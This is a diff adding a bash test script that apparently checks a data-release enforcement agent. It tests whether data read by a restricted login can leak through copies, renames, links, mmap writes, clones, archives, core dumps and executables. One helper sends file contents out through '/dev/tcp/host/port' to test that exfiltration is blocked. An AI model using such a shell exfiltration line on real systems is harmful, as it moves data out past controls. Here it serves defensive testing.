@@ -1,0 +1,444 @@
+# SPDX-License-Identifier: GPL-2.0-only
+# shellcheck shell=bash disable=SC2086,SC2154 # plain words; lib.sh
+#
+# A file that a holder wrote carries what it holds to whoever reads it, whatever
+# becomes of its name. Everything may be read, as in 65-hops.sh; the process
+# that releases has opened no file of the dataset. On the file systems of
+# 30-reads.sh.
+
+dv=/srv/derived
+dv_on="ext4 xfs tmpfs overlay"
+
+derived_prepare()
+{
+	mkdir -p $dv
+	chmod 777 $dv
+	mkdir -p $rd/xfs/derived $rd/overlay/derived
+	# Older than all that is tried.
+	head -c 20000 /dev/urandom >$dv/old
+}
+
+# derived_hops FS: what is tried there; the whole list on one of them.
+derived_hops()
+{
+	case $1 in
+	ext4) names derived ;;
+	*) echo file file-direct file-splice file-map file-map-before \
+		file-mapped ;;
+	esac
+}
+
+# derived_try FS ARGS...
+derived_try()
+{
+	local fs=$1
+	shift
+
+	hops_try --work $rd/$fs/aside "$@"
+}
+
+# derived_make WHAT FIRST LAST TO: these photos, by what everybody has.
+derived_make()
+{
+	local how
+
+	files $re $2 $3
+	# shellcheck disable=SC2016 # the other shell's
+	case $1 in
+	cat) how='cat "$@" >>"$to"' ;;
+	dd) how='cat "$@" | dd bs=1k of="$to" status=none' ;;
+	tgz) how='tar -czPf "$to" "$@"' ;;
+	esac
+	to=$4 as $login bash -c "$how" - ${args[*]/--file/} 2>/dev/null
+	rc=$?
+}
+
+# derived_copies WHAT RECORDS TO
+derived_copies()
+{
+	new_login
+	rm -f $3
+	derived_make $1 1 $2 $3
+}
+
+# derived_send FILE...: by another login, which reads nothing else.
+derived_send()
+{
+	local file args=()
+
+	new_login
+	for file; do
+		args+=(--file $file)
+	done
+	release_try send --timeout 20 "${args[@]}"
+}
+
+# derived_refuses NAME FILE...: it carries more than the budget has.
+derived_refuses()
+{
+	local name=$1
+	shift
+
+	derived_send "$@"
+	check "derived/$name" "exit $rc $json $got" hops_none_beyond
+}
+
+# derived_passes NAME BYTES RECORDS FILE...
+derived_passes()
+{
+	local name=$1 bytes=$2 records=$3
+	shift 3
+
+	derived_send "$@"
+	check "derived/$name" "exit $rc $json $got" \
+		release_arrived $bytes $records
+}
+
+# derived_twin NAME BYTES RECORDS FILE...
+derived_twin()
+{
+	local name=$1 bytes=$2 records=$3
+	shift 3
+
+	derived_send "$@"
+	if release_arrived $bytes $records; then
+		twin "derived/$name" pass
+	else
+		twin "derived/$name" fail "exit $rc $json $got"
+	fi
+}
+
+# derived_shell FILE: what is in it leaves by a shell.
+derived_shell()
+{
+	new_login
+	ask
+	# shellcheck disable=SC2016 # the other shell's
+	as $login bash -c 'cat "$3" >"/dev/tcp/$1/$2"' - $there $port \
+		"$1" 2>/dev/null
+	rc=$?
+	json=
+	ask
+}
+
+derived_twins()
+{
+	local fs hop what
+
+	files $re 1 8
+	for fs in $dv_on; do
+		for hop in $(derived_hops $fs); do
+			derived_try $fs --hop $hop "${args[@]}"
+			if release_arrived 24000 8; then
+				twin "derived/$fs/$hop" pass
+			elif [ "$rc" = 2 ]; then
+				twin "derived/$fs/$hop" skip "$(missing)"
+			else
+				twin "derived/$fs/$hop" fail \
+					"exit $rc $json $got"
+			fi
+		done
+	done
+	for what in cat dd; do
+		derived_copies $what 8 $dv/copy
+		derived_twin $what 24000 8 $dv/copy
+	done
+	derived_copies tgz 8 $dv/copy
+	derived_shell $dv/copy
+	if hops_chain_arrived; then
+		twin derived/tgz pass
+	else
+		twin derived/tgz fail "exit $rc $got"
+	fi
+	rm $dv/copy
+}
+
+derived_by_hops()
+{
+	local fs hop name
+
+	for fs in $dv_on; do
+		for hop in $(derived_hops $fs); do
+			name=derived/${hop}_on_$fs
+			proved $name "derived/$fs/$hop" || continue
+			new_login
+			files $re 1 8
+			derived_try $fs --hop $hop "${args[@]}"
+			check "${name}_refuses_when_beyond" \
+				"exit $rc $json $got" hops_none_beyond
+			new_login
+			files $re 1 $budget_records
+			derived_try $fs --hop $hop "${args[@]}"
+			check "${name}_passes_when_within_budget" \
+				"exit $rc $json $got" release_arrived 12000 4
+			[ $fs = ext4 ] || continue
+			new_login
+			derived_try $fs --hop $hop --read none --bytes 20000
+			check "${name}_passes_when_bystander" \
+				"exit $rc $json $got" release_arrived 20000 0
+		done
+	done
+	new_login
+	files $re 1 6
+	derived_try ext4 --hop file-append --givers 2 "${args[@]}"
+	check derived/file_refuses_when_halves_add_up "exit $rc $json $got" \
+		hops_none_beyond
+	new_login
+	files $re 1 4
+	derived_try ext4 --hop file-append --givers 2 "${args[@]}"
+	check derived/file_passes_when_halves_are_within "exit $rc $json $got" \
+		release_arrived 12000 4
+}
+
+# Two logins, of which each may hand on what it read.
+derived_by_two()
+{
+	rm -f $dv/two
+	new_login
+	derived_make cat 1 $1 $dv/two
+	new_login
+	derived_make cat $(($1 + 1)) $2 $dv/two
+}
+
+# Whatever its name is, and though nobody has it in memory.
+derived_names()
+{
+	local fs=$1 d=$rd/$1/aside
+
+	derived_copies cat 8 $d/a
+	mv $d/a $d/b
+	derived_refuses "copy_on_${fs}_refuses_when_renamed" $d/b
+	ln $d/b $d/c
+	rm $d/b
+	derived_refuses "copy_on_${fs}_refuses_when_linked" $d/c
+	sync
+	echo 3 >/proc/sys/vm/drop_caches
+	derived_refuses "copy_on_${fs}_refuses_when_evicted" $d/c
+	rm $d/c
+}
+
+# The map is the only way in which anything was written.
+derived_evicted_map()
+{
+	local fs=$1 d=$rd/$1/aside
+
+	rm -f $d/m
+	truncate -s 24000 $d/m
+	new_login
+	files $re 1 8
+	as $login python3 - $d/m $2 ${args[*]/--file/} <<-'P'
+	import mmap, sys
+	out = open(sys.argv[1], "r+b")
+	if sys.argv[2] == "before":
+	    m = mmap.mmap(out.fileno(), 24000)
+	data = b"".join(open(f, "rb").read() for f in sys.argv[3:])
+	if sys.argv[2] == "after":
+	    m = mmap.mmap(out.fileno(), 24000)
+	m[:] = data
+	P
+	sync
+	echo 3 >/proc/sys/vm/drop_caches
+	derived_refuses "map_on_${fs}_refuses_when_made_$2_and_evicted" $d/m
+	rm $d/m
+}
+
+derived_clone()
+{
+	local d=$rd/xfs/aside
+
+	derived_copies cat 8 $d/a
+	new_login
+	as $login cp --reflink=always $d/a $d/b
+	derived_refuses clone_refuses_when_of_a_copy $d/b
+	rm $d/b
+	derived_copies cat 4 $d/a
+	new_login
+	as $login cp --reflink=always $d/a $d/b
+	derived_passes clone_passes_when_within_budget 12000 4 $d/b
+	rm $d/a $d/b
+}
+
+# See identity_reuse().
+derived_reuse()
+{
+	local name=inode_carries_nothing_when_number_is_used_again want i
+	local f=$id/reuse/copy
+
+	derived_copies cat 8 $f
+	derived_refuses copy_refuses_when_it_is_there $f
+	want=$(stat -c %i $f)
+	rm $f
+	sync
+	for ((i = 0; i < 200; i++)); do
+		cp $dv/old $id/reuse/$i
+		[ "$(stat -c %i $id/reuse/$i)" = "$want" ] && break
+	done
+	if [ "$i" = 200 ]; then
+		skip derived/$name "the number did not come back"
+	else
+		derived_passes $name 20000 0 $id/reuse/$i
+	fi
+	rm -f $id/reuse/[0-9]*
+}
+
+derived_full()
+{
+	local before
+
+	before=$(status_of '.faults["table of derived files full"] // 0')
+	"$bin/tests/kernel/pins" fill derived >/tmp/pins
+	derived_copies cat 1 $dv/full
+	check derived/write_is_refused_when_full "exit $rc" \
+		[ $rc != 0 -a ! -s $dv/full ]
+	check derived/refusal_is_counted_when_full "$(status_of .faults)" \
+		[ "$(status_of '.faults["table of derived files full"]')" \
+		-gt "$before" ]
+	new_login
+	as $login cp $dv/old $dv/new
+	check derived/bystander_writes_when_full "exit $?" \
+		cmp -s $dv/old $dv/new
+	derived_passes bystander_reads_when_full 20000 0 $dv/new
+	"$bin/tests/kernel/pins" empty derived >/tmp/pins
+	derived_copies cat 4 $dv/full
+	derived_passes copy_passes_when_there_is_room_again 12000 4 $dv/full
+	rm $dv/full $dv/new
+}
+
+# What is executed is read.
+derived_exec()
+{
+	new_login
+	files $re 1 8
+	# shellcheck disable=SC2016 # the other shell's
+	as $login bash -c 'cat "${@:3}" >/dev/null; { for f in "${@:3}"; do
+		exec 3<"$f"; read -r -N 1 -u 3; done; } 2>/dev/null
+		cat "$1" >"$2"; chmod 755 "$2"' - "$probe" $dv/exe \
+		${args[*]/--file/}
+	new_login
+	ask
+	hear as $login $dv/exe --timeout 20 --to $there --port $port \
+		--wait-ms 1000 --read none --bytes 500 --release send
+	ask
+	check derived/program_refuses_when_a_holder_wrote_it \
+		"exit $rc $json $got" release_nothing_came
+	rm $dv/exe
+}
+
+derived_dump()
+{
+	local core=$dv/core pattern
+
+	pattern=$(cat /proc/sys/kernel/core_pattern)
+	echo $core >/proc/sys/kernel/core_pattern
+	new_login
+	files $re 1 8
+	(
+		ulimit -c unlimited
+		# shellcheck disable=SC2016 # the other shell's
+		as $login bash -c 'for f; do exec 3<"$f"
+			read -r -N 1 -u 3; done; kill -SEGV $$' - \
+			${args[*]/--file/} 2>/dev/null
+	)
+	echo "$pattern" >/proc/sys/kernel/core_pattern
+	core=$(echo $dv/core*)
+	check derived/core_is_dumped_when_a_holder_dies "$core" [ -s $core ]
+	derived_refuses core_refuses_when_a_holder_died $core
+	rm -f $dv/core*
+}
+
+# Of files and holdings: as many as before.
+derived_freed()
+{
+	local before after i
+
+	before="$(hops_count derived) $(hops_count holdings)"
+	for i in {1..20}; do
+		derived_copies cat 2 $dv/$i
+	done
+	check derived/each_copy_is_kept_when_it_is_there "before: $before" \
+		[ "$(hops_count derived)" = $((${before% *} + 20)) ]
+	rm $dv/[0-9]*
+	# The last ones are let go of a moment later.
+	nap 1
+	after="$(hops_count derived) $(hops_count holdings)"
+	check derived/nothing_is_left_when_files_are_deleted \
+		"before: $before, after: $after" [ "$before" = "$after" ]
+}
+
+derived_aside()
+{
+	agent_with <<-P || return
+	datasets:
+	  records: {paths: [$re/photos], record: file}
+	subjects:
+	  gate: {user: root}
+	rules:
+	  - {subject: "*", dataset: records, read: unlimited, release: none}
+	  - {subject: gate, dataset: records, read: unlimited, release: none}
+	P
+	"$bin/tests/kernel/pins" aside 0 7000 ||
+		fail derived/aside_can_be_set "dims or intakes"
+	hops_takes file 1
+	check derived/declassifier_holds_nothing_within_its_cap \
+		"exit $rc $json $got" release_arrived 3000 1
+	hops_takes file-mapped 1
+	check derived/declassifier_holds_nothing_by_a_map_within_it \
+		"exit $rc $json $got" release_arrived 3000 1
+	hops_takes file 1
+	check derived/declassifier_holds_when_beyond_its_cap \
+		"exit $rc $json $got" hops_none_beyond
+}
+
+derived_cases()
+{
+	local fs
+
+	# See hops_cases().
+	agent_gone
+	agent_with --max-records 8192 < <(hops_policy) || return
+	derived_passes old_file_passes_when_nobody_wrote_it 20000 0 $dv/old
+	derived_by_hops
+	derived_copies dd 8 $dv/copy
+	proved derived/dd derived/dd && derived_refuses dd_refuses_when_beyond \
+		$dv/copy
+	derived_copies tgz 8 $dv/copy
+	derived_shell $dv/copy
+	proved derived/tgz derived/tgz && check derived/archive_refuses_when_beyond \
+		"exit $rc $got" came total_bytes 0
+	derived_copies tgz 4 $dv/copy
+	derived_shell $dv/copy
+	check derived/archive_passes_when_within_budget "exit $rc $got" \
+		hops_chain_arrived
+	derived_by_two 3 6
+	derived_refuses copy_refuses_when_two_logins_add_up $dv/two
+	derived_by_two 2 4
+	derived_passes copy_passes_when_two_logins_are_within 12000 4 $dv/two
+	# What was in it may still be on the disk.
+	derived_copies cat 8 $dv/two
+	new_login
+	as $login cp $dv/old $dv/two
+	derived_refuses copy_refuses_when_it_was_truncated $dv/two
+	for fs in $dv_on; do
+		proved derived/$fs derived/cat || continue
+		derived_names $fs
+	done
+	for fs in ext4 overlay; do
+		derived_evicted_map $fs before
+		derived_evicted_map $fs after
+	done
+	derived_clone
+	derived_reuse
+	derived_full
+	derived_exec
+	derived_dump
+	derived_copies cat 8 $dv/copy
+	agent_stop KILL
+	agent_start
+	derived_refuses copy_refuses_when_the_agent_was_killed $dv/copy
+	rm $dv/copy $dv/two
+	derived_freed
+	check derived/bystander_is_no_holder_after_all_that \
+		"$(hops_count processes)" [ "$(hops_count processes)" = 0 ]
+	derived_aside
+	agent_gone
+}
